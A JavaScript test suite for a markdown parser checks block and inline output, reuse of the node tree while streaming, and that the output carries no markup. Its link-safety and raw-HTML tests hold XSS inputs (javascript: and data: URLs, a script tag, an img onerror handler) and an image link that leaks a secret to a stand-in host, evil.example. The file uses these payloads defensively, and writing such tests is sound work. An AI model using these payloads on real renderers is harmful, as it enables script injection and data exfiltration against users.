// The markdown parser: the shapes it produces, and that nothing it produces
// can carry markup (the page builds DOM only from these node types).
import { test } from 'node:test';
import assert from 'node:assert/strict';

import { parse, inline, safeHref } from '../static/markdown.js';

// strip removes the src fields, which only serve DOM reuse.
const strip = (nodes) => JSON.parse(JSON.stringify(nodes, (k, v) => (k === 'src' ? undefined : v)));
const T = (v) => ({ t: 'text', v });

test('blocks', () => {
  const cases = [
    ['Hello **world**', [{ t: 'p', c: [T('Hello '), { t: 'strong', c: [T('world')] }] }]],
    ['# Title\n\ntext', [{ t: 'h', level: 1, c: [T('Title')] }, { t: 'p', c: [T('text')] }]],
    ['line one\nline two', [{ t: 'p', c: [T('line one'), { t: 'br' }, T('line two')] }]],
    ['```go\nfmt.Println("<b>")\n```\nafter', [{ t: 'code', lang: 'go', text: 'fmt.Println("<b>")' }, { t: 'p', c: [T('after')] }]],
    ['```\nstill streaming', [{ t: 'code', lang: '', text: 'still streaming' }]],
    ['> quoted\n> more', [{ t: 'quote', c: [{ t: 'p', c: [T('quoted'), { t: 'br' }, T('more')] }] }]],
    ['- a\n- b', [{ t: 'list', ordered: false, start: 1, items: [[{ t: 'p', c: [T('a')] }], [{ t: 'p', c: [T('b')] }]] }]],
    ['3. x\n4. y', [{ t: 'list', ordered: true, start: 3, items: [[{ t: 'p', c: [T('x')] }], [{ t: 'p', c: [T('y')] }]] }]],
    ['- a\n  - nested', [{ t: 'list', ordered: false, start: 1, items: [[{ t: 'p', c: [T('a')] }, { t: 'list', ordered: false, start: 1, items: [[{ t: 'p', c: [T('nested')] }]] }]] }]],
    ['Intro:\n- a', [{ t: 'p', c: [T('Intro:')] }, { t: 'list', ordered: false, start: 1, items: [[{ t: 'p', c: [T('a')] }]] }]],
    ['---', [{ t: 'hr' }]],
    ['| a | b |\n|:--|--:|\n| 1 | 2 |', [{ t: 'table', align: ['left', 'right'], head: [[T('a')], [T('b')]], rows: [[[T('1')], [T('2')]]] }]],
  ];
  for (const [src, want] of cases) assert.deepEqual(strip(parse(src)), want, JSON.stringify(src));
});

test('inlines', () => {
  const cases = [
    ['`a<b`', [{ t: 'code', v: 'a<b' }]],
    ['*em* and _em_', [{ t: 'em', c: [T('em')] }, T(' and '), { t: 'em', c: [T('em')] }]],
    ['snake_case_name', [T('snake_case_name')]],
    ['2 * 3 * 4', [T('2 * 3 * 4')]],
    ['~~gone~~', [{ t: 'del', c: [T('gone')] }]],
    ['[site](https://example.com/a_(b))', [{ t: 'link', href: 'https://example.com/a_(b)', c: [T('site')] }]],
    ['<https://example.com>', [{ t: 'link', href: 'https://example.com', c: [T('https://example.com')] }]],
    ['\\*not em\\*', [T('*not em*')]],
    ['unclosed **bold', [T('unclosed **bold')]],
    ['``a `b` c``', [{ t: 'code', v: 'a `b` c' }]],
  ];
  for (const [src, want] of cases) assert.deepEqual(inline(src), want, JSON.stringify(src));
});

test('links only to http(s) and mailto; images are never fetched', () => {
  const cases = [
    ['[x](javascript:alert(1))', [T('x')]],
    ['[x](JaVaScRiPt:alert(1))', [T('x')]],
    ['[x](data:text/html,<script>alert(1)</script>)', [T('x')]],
    ['[x](//evil.example/)', [T('x')]],
    ['[x](/relative)', [T('x')]],
    ['![pixel](https://evil.example/leak?d=secret)', [{ t: 'link', href: 'https://evil.example/leak?d=secret', c: [T('pixel')] }]],
    ['<javascript:alert(1)>', [T('<javascript:alert(1)>')]],
  ];
  for (const [src, want] of cases) assert.deepEqual(inline(src), want, JSON.stringify(src));
  assert.equal(safeHref('https://ok.example/'), 'https://ok.example/');
  assert.equal(safeHref('https://ok.example/\u0000x'), null);
});

test('raw HTML stays text', () => {
  const src = 'Hi <script>alert(1)</script> <img src=x onerror="alert(2)">';
  assert.deepEqual(strip(parse(src)), [{ t: 'p', c: [T(src)] }]);
});

const BLOCK_TYPES = new Set(['p', 'h', 'code', 'quote', 'list', 'hr', 'table']);
const INLINE_TYPES = new Set(['text', 'br', 'code', 'strong', 'em', 'del', 'link']);

function checkTree(nodes, types, seen) {
  for (const n of nodes) {
    assert.ok(types.has(n.t), `unexpected node ${n.t}`);
    seen.add(n.t);
    for (const k of Object.keys(n)) {
      assert.ok(['t', 'v', 'c', 'src', 'level', 'lang', 'text', 'items', 'ordered', 'start', 'align', 'head', 'rows', 'href'].includes(k), `unexpected field ${k}`);
    }
    if (n.t === 'link') assert.ok(safeHref(n.href) === n.href, `unsafe href ${n.href}`);
    if (n.t === 'h') assert.ok(n.level >= 1 && n.level <= 6);
    if (n.t === 'quote') checkTree(n.c, BLOCK_TYPES, seen);
    else if (n.t === 'list') n.items.forEach((it) => checkTree(it, BLOCK_TYPES, seen));
    else if (n.t === 'table') {
      n.head.forEach((c) => checkTree(c, INLINE_TYPES, seen));
      n.rows.forEach((r) => r.forEach((c) => checkTree(c, INLINE_TYPES, seen)));
    } else if (n.c) checkTree(n.c, INLINE_TYPES, seen);
  }
}

// A deterministic random walk over markdown-ish input: the parser never
// throws, never loops, and produces only the node types the page renders.
test('random input yields only known, safe nodes', () => {
  const alphabet = ['*', '**', 'bold', '_', '~', '`', '[', ']', '(', ')', '!', '<', '>', '#', '-', '+', '|', ':', '\\', '\n', '\n\n', ' ', '  ', '1.', 'a', 'b', 'http://x.y', 'javascript:', '```', '> ', '- ', '<script>', '"', "'", '\t', 'é', '😀'];
  let seed = 42;
  const rnd = (n) => { seed = (seed * 1103515245 + 12345) & 0x7fffffff; return seed % n; };
  const seen = new Set();
  for (let k = 0; k < 3000; k++) {
    let s = '';
    const len = 1 + rnd(60);
    for (let j = 0; j < len; j++) s += alphabet[rnd(alphabet.length)];
    checkTree(parse(s), BLOCK_TYPES, seen);
  }
  for (const t of ['p', 'code', 'list', 'strong', 'em', 'link', 'br']) assert.ok(seen.has(t), `walk never produced ${t}`);
});

test('every top-level block carries its source, for DOM reuse while streaming', () => {
  const src = '# T\n\npara one\nstill one\n\n- a\n- b\n\n```\ncode';
  assert.deepEqual(parse(src).map((b) => b.src), ['# T', 'para one\nstill one', '- a\n- b', '```\ncode']);
});

test('a re-parse takes unchanged blocks from the previous tree', () => {
  const first = parse('# T\n\none\n\ntwo');
  const second = parse('# T\n\none\n\ntwo and more', first);
  assert.equal(second[0], first[0]);
  assert.equal(second[1], first[1]);
  assert.notEqual(second[2], first[2]);
  assert.deepEqual(strip(second), strip(parse('# T\n\none\n\ntwo and more')));
});
